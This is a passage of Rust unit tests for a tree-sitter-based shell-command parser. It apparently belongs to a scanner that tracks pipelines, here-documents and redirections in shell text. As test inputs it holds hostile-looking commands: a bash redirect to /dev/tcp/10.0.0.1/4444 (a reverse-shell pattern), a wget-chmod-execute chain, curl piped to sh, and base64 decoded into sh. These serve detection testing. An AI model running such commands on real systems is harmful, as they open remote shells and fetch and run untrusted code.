                fd: None,
                heredoc: None,
            }]
        );
        assert_eq!(c[1].name, "bash");
        assert!(
            c[1].redirects
                .iter()
                .any(|r| r.target == "/dev/tcp/10.0.0.1/4444"),
            "{:?}",
            c[1].redirects
        );
        let chain: Vec<&str> = c[2..].iter().map(|c| c.name.as_str()).collect();
        assert_eq!(chain, ["wget", "chmod", "/tmp/.x"]);
        assert!(c[2..].iter().all(|x| x.statement == c[2].statement));
        assert_ne!(c[2].pipeline, c[3].pipeline);
    }

    /// A pipeline tree-sitter nests one level per stage (`a|x>f|x>f|…`) is read as one
    /// pipeline, in order, without recursion (a file as deep as it is long once overflowed the
    /// stack).
    #[test]
    fn a_pipeline_nested_as_deep_as_it_is_long_is_one_pipeline() {
        let n = MAX_PIPELINE_STAGES - 1;
        let src = format!("curl -s https://x.invalid/a{}\n", "|x>f".repeat(n - 1));
        let f = shell_commands(&src);
        assert_eq!(f.commands.len(), n);
        assert!(f.unread.is_empty());
        assert!(
            f.commands
                .iter()
                .all(|c| c.pipeline == f.commands[0].pipeline)
        );
        let positions: Vec<u32> = f.commands.iter().map(|c| c.position).collect();
        let expected: Vec<u32> = (0..u32::try_from(n).unwrap_or(u32::MAX)).collect();
        assert_eq!(positions, expected);
    }

    /// A pipeline past the bound is left out and reported where it starts; the statements
    /// around it are read, on their own lines.
    #[test]
    fn a_pipeline_past_the_bound_is_reported_and_the_rest_is_read() {
        let n = MAX_PIPELINE_STAGES;
        // n pipe operators: n + 1 stages, the last on the next line.
        let src = format!(
            "echo a | sh\nX=1 curl -s https://x.invalid/a{} |\n  cat; rm x\nwget -q u; echo b\n",
            "|cat".repeat(n - 1)
        );
        let f = shell_commands(&src);
        assert_eq!(
            f.unread,
            [Unread::Pipeline {
                line: 2,
                stages: n + 1
            }]
        );
        // The first n stages are read, as one pipeline; the last, past the bound, is not;
        // `rm`, after the statement's `;`, is.
        let seen: Vec<(&str, u32)> = f
            .commands
            .iter()
            .map(|c| (c.name.as_str(), c.line))
            .filter(|(n, _)| *n != "cat")
            .collect();
        assert_eq!(
            seen,
            [
                ("echo", 1),
                ("sh", 1),
                ("curl", 2),
                ("rm", 3),
                ("wget", 4),
                ("echo", 4)
            ]
        );
        assert_eq!(f.downstream(2).count(), n - 1);
        // n stages exactly are read whole.
        let src = format!("curl u{}\n", "|cat".repeat(n - 1));
        let f = shell_commands(&src);
        assert!(f.unread.is_empty());
        assert_eq!(f.commands.len(), n);
    }

    /// Text with more `|` characters than one parse may take is read in pieces of whole
    /// statements, each command keeping its line, statement, pipeline and parent; a statement
    /// holding more than one parse takes that is not one pipeline (its pipes quoted) is
    /// reported; a statement after quoted pipes is not cut.
    #[test]
    fn many_pipes_are_parsed_in_pieces_of_statements() {
        let line = format!("a{} | b \"$(c)\"\n", "|x".repeat(9));
        let lines = MAX_PIPES_PER_PARSE / 10 + 5;
        let src = line.repeat(lines);
        let f = shell_commands(&src);
        assert!(f.unread.is_empty());
        assert_eq!(f.commands.len(), lines * 12);
        for (i, chunk) in f.commands.chunks(12).enumerate() {
            let want = u32::try_from(i + 1).unwrap_or(u32::MAX);
            assert!(chunk.iter().all(|c| c.line == want), "line {want}");
            assert!(chunk.iter().all(|c| c.statement == chunk[0].statement));
            assert!(chunk[..11].iter().all(|c| c.pipeline == chunk[0].pipeline));
            let positions: Vec<u32> = chunk[..11].iter().map(|c| c.position).collect();
            assert_eq!(positions, (0..11).collect::<Vec<u32>>());
            // `c` runs in `b`'s substitution.
            assert_eq!(chunk[11].name, "c");
            assert_eq!(chunk[11].parent, Some(i * 12 + 10), "line {want}");
        }
        let statements: std::collections::BTreeSet<u32> =
            f.commands.iter().map(|c| c.statement).collect();
        assert_eq!(statements.len(), lines);
        let quoted = format!(
            "echo ok\ngrep '{}' f\necho done\n",
            "a|".repeat(MAX_PIPES_PER_PARSE + 1)
        );
        let f = shell_commands(&quoted);
        assert_eq!(
            f.unread,
            [Unread::Pipes {
                line: 2,
                pipes: MAX_PIPES_PER_PARSE + 1
            }]
        );
        let names: Vec<&str> = f.commands.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, ["echo", "echo"]);
        // Quoted pipes up to the bound, then a pipeline over two lines: one piece each, the
        // pipeline whole.
        let src = format!(
            "echo '{}'\ncurl -fsSL https://x.invalid/i.sh \\\n  | sh\n",
            "a|".repeat(MAX_PIPES_PER_PARSE)
        );
        let f = shell_commands(&src);
        assert!(f.unread.is_empty());
        let names: Vec<&str> = f.commands.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, ["echo", "curl", "sh"]);
        assert_eq!(f.downstream(1).map(|(j, _)| j).collect::<Vec<_>>(), [2]);
    }

    /// A list as long as the file (`a && b && …`, one nesting level per command) gives each
    /// command its statement without walking up the tree per command.
    #[test]
    fn a_long_list_is_one_statement() {
        let n = 5_000;
        let src = format!("true{}\necho x \"$(date)\"\n", " && cat".repeat(n));
        let f = shell_commands(&src);
        assert_eq!(f.commands.len(), n + 3);
        let first = f.commands[0].statement;
        assert!(
            f.commands[..=n]
                .iter()
                .all(|c| c.statement == first && c.parent.is_none())
        );
        assert_ne!(f.commands[n + 1].statement, first);
        assert_eq!(f.commands[n + 2].parent, Some(n + 1));
    }

    /// A here-document's body is kept with its first line; a pipeline written after the
    /// delimiter (`cat <<EOF | sh`, which tree-sitter puts inside the redirection) goes on from
    /// the command that reads the document.
    #[test]
    fn a_here_document_s_body_and_pipeline() {
        let f = shell_commands(
            "echo a\ncat <<'EOF' | tr -d x | sh\ncurl -s u | bash\n  wget v\nEOF\nbase64 -d <<-E | sh\n\tY3VybA==\n\tE\nbash <<EOF\nid\nEOF\n",
        );
        let seen: Vec<(&str, u32, u32)> = f
            .commands
            .iter()
            .map(|c| (c.name.as_str(), c.line, c.position))
            .collect();
        assert_eq!(
            seen,
            [
                ("echo", 1, 0),
                ("cat", 2, 0),
                ("tr", 2, 1),
                ("sh", 2, 2),
                ("base64", 6, 0),
                ("sh", 6, 1),
                ("bash", 9, 0),
            ]
        );
        let c = &f.commands;
        assert!(c[1..4].iter().all(|x| x.pipeline == c[1].pipeline));
        assert_eq!(c[4].pipeline, c[5].pipeline);
        assert_ne!(c[1].pipeline, c[4].pipeline);
        assert_eq!(
            f.downstream(4)
                .map(|(_, o)| o.name.as_str())
                .collect::<Vec<_>>(),
            ["sh"]
        );
        let doc = |i: usize| {
            c[i].redirects
                .iter()
                .find_map(|r| r.heredoc.as_ref())
                .map(|h| (h.line, h.text.as_str()))
        };
        assert_eq!(doc(1), Some((3, "curl -s u | bash\n  wget v\n")));
        assert_eq!(doc(4), Some((7, "Y3VybA==\n")));
        assert_eq!(doc(6), Some((10, "id\n")));
        assert_eq!(doc(0), None);
    }

    /// Only a `|` after the delimiter joins the document's command: `&& a | b` is a pipeline
    /// of its own. A here-document's line counts from the whole text when it is parsed in
    /// pieces.
    #[test]
    fn a_here_document_joins_only_its_own_pipe_and_keeps_its_line() {
        let f = shell_commands("cat <<EOF && a | b\nx\nEOF\n");
        let seen: Vec<(&str, u32)> = f
            .commands
            .iter()
            .map(|c| (c.name.as_str(), c.position))
            .collect();
        assert_eq!(seen, [("cat", 0), ("a", 0), ("b", 1)]);
        assert_ne!(f.commands[0].pipeline, f.commands[1].pipeline);
        let src = format!(
            "echo '{}'\ncat <<'EOF' | sh\ncurl -s u | sh\nEOF\n",
            "a|".repeat(MAX_PIPES_PER_PARSE)
        );
        let f = shell_commands(&src);
        let doc = f
            .commands
            .iter()
            .find(|c| c.name == "cat")
            .and_then(|c| c.redirects.iter().find_map(|r| r.heredoc.clone()));
        assert_eq!(
            doc,
            Some(Heredoc {
                line: 3,
                text: "curl -s u | sh\n".into(),
                quoted: true,
            })
        );
    }

    /// A here-document's command that is the last of a pipeline carries that pipeline on:
    /// `true | cat <<EOF | bash` is one pipeline of three, in order, so the document flows into
    /// `bash`; a here-document's command first in a `&&` list stays apart from what follows.
    #[test]
    fn a_here_document_s_pipe_goes_on_from_the_pipeline_its_command_ends() {
        let f = shell_commands(
            "true | cat <<'EOF' | tr -d x | bash\ncurl -s u | sh\nEOF\n: | base64 -d <<E 2>/dev/null\nY3VybA==\nE\n",
        );
        let seen: Vec<(&str, u32)> = f
            .commands
            .iter()
            .map(|c| (c.name.as_str(), c.position))
            .collect();
        assert_eq!(
            seen,
            [
                ("true", 0),
                ("cat", 1),
                ("tr", 2),
                ("bash", 3),
                (":", 0),
                ("base64", 1),
            ]
        );
        let c = &f.commands;
        assert!(c[..4].iter().all(|x| x.pipeline == c[0].pipeline));
        assert_eq!(c[4].pipeline, c[5].pipeline);
        assert_ne!(c[0].pipeline, c[4].pipeline);
        let down: Vec<&str> = f.downstream(1).map(|(_, o)| o.name.as_str()).collect();
        assert_eq!(down, ["tr", "bash"]);
    }

    /// A here-document's `|` followed by a list (`| sudo bash -s || exit 1`) pipes into the
    /// list's first command (or pipeline); `! cat <<EOF | sh` pipes too.
    #[test]
    fn a_here_document_s_pipe_into_a_list_reaches_its_first_command() {
        let f = shell_commands("cat <<'EOF' | sudo bash -s || exit 1\nx\nEOF\n");
        let seen: Vec<(&str, u32)> = f
            .commands
            .iter()
            .map(|c| (c.name.as_str(), c.position))
            .collect();
        assert_eq!(seen, [("cat", 0), ("sudo", 1), ("exit", 0)]);
        let c = &f.commands;
        assert_eq!(c[0].pipeline, c[1].pipeline);
        assert_ne!(c[0].pipeline, c[2].pipeline);
        // A pipeline first in the list: all its stages; a negated command's own pipe.
        let f = shell_commands(
            "cat <<'EOF' | tr x y | bash || exit 1\nx\nEOF\n! cat <<'E' | sh\ny\nE\n",
        );
        let seen: Vec<(&str, u32)> = f
            .commands
            .iter()
            .map(|c| (c.name.as_str(), c.position))
            .collect();
        assert_eq!(
            seen,
            [
                ("cat", 0),
                ("tr", 1),
                ("bash", 2),
                ("exit", 0),
                ("cat", 0),
                ("sh", 1)
            ]
        );
        let c = &f.commands;
        assert!(c[..3].iter().all(|x| x.pipeline == c[0].pipeline));
        assert_ne!(c[3].pipeline, c[0].pipeline);
        assert_eq!(c[4].pipeline, c[5].pipeline);
        assert_ne!(c[4].pipeline, c[0].pipeline);
    }

    /// A stage that reads its input from a redirection cuts the flow: nothing before it reaches
    /// it or what follows it; its own output flows on.
    #[test]
    fn a_redirected_input_cuts_the_pipeline_s_flow() {
        let f = shell_commands("a | b < f | c | d <<< x | e\n");
        let names = |it: &mut dyn Iterator<Item = (usize, &ShellCommand)>| -> Vec<String> {
            it.map(|(_, o)| o.name.clone()).collect()
        };
        assert_eq!(names(&mut f.downstream(0)), Vec::<String>::new());
        assert_eq!(names(&mut f.downstream(1)), ["c"]);
        assert_eq!(names(&mut f.downstream(3)), ["e"]);
        assert_eq!(names(&mut f.upstream(2)), ["b"]);
        assert_eq!(names(&mut f.upstream(1)), Vec::<String>::new());
        assert_eq!(names(&mut f.upstream(4)), ["d"]);
        let f = shell_commands("a | b 2< f | c\n");
        assert_eq!(names(&mut f.downstream(0)), ["b", "c"]);
        assert_eq!(names(&mut f.upstream(2)), ["a", "b"]);
    }

    /// A bound that falls where the statement cannot end (here a here-document's body is still
    /// to come) leaves the whole statement out, so its head cannot swallow what follows.
    #[test]
    fn a_bound_inside_an_open_construct_leaves_the_statement_out() {
        let src = format!(
            "cat <<EOF{}\nbody\nEOF\ncurl -s u | sh\n",
            " | cat".repeat(MAX_PIPELINE_STAGES)
        );
        let f = shell_commands(&src);
        assert_eq!(
            f.unread,
            [Unread::Pipeline {
                line: 1,
                stages: MAX_PIPELINE_STAGES + 1
            }]
        );
        let seen: Vec<(&str, u32)> = f
            .commands
            .iter()
            .map(|c| (c.name.as_str(), c.line))
            .collect();
        assert_eq!(seen, [("curl", 4), ("sh", 4)]);
    }

    /// A command's name, position and redirections (operator, target, descriptor).
    type Seen<'a> = (&'a str, u32, Vec<(&'a str, &'a str, Option<u32>)>);

    /// A redirection written after a pipeline's last command is that command's (bash binds it
    /// there), output or input; the other commands have none. A pipeline tree-sitter reads as a
    /// redirected pipeline inside another is one pipeline, its commands in order.
    #[test]
    fn a_pipeline_s_redirections_belong_to_its_ends() {
        let f = shell_commands(
            "echo a | base64 -d | tr x y > out.bin\nsort < in.txt | uniq\necho b | sh < f\necho c | base64 -d 2>/dev/null | sh\n",
        );
        let seen: Vec<Seen<'_>> = f
            .commands
            .iter()
            .map(|c| {
                let r = c
                    .redirects
                    .iter()
                    .map(|r| (r.op.as_str(), r.target.as_str(), r.fd))
                    .collect();
                (c.name.as_str(), c.position, r)
            })
            .collect();
        assert_eq!(
            seen,
            [
                ("echo", 0, vec![]),
                ("base64", 1, vec![]),
                ("tr", 2, vec![(">", "out.bin", None)]),
                ("sort", 0, vec![("<", "in.txt", None)]),
                ("uniq", 1, vec![]),
                ("echo", 0, vec![]),
                ("sh", 1, vec![("<", "f", None)]),
                ("echo", 0, vec![]),
                ("base64", 1, vec![(">", "/dev/null", Some(2))]),
                ("sh", 2, vec![]),
            ]
        );
        let c = &f.commands;
        assert!(c[7..].iter().all(|x| x.pipeline == c[7].pipeline));
        assert_eq!(
            f.downstream(8)
                .map(|(_, o)| o.name.as_str())
                .collect::<Vec<_>>(),
            ["sh"]
        );
        assert!(!c[8].redirects[0].takes_stdout());
        assert!(c[2].redirects[0].takes_stdout());
    }
}
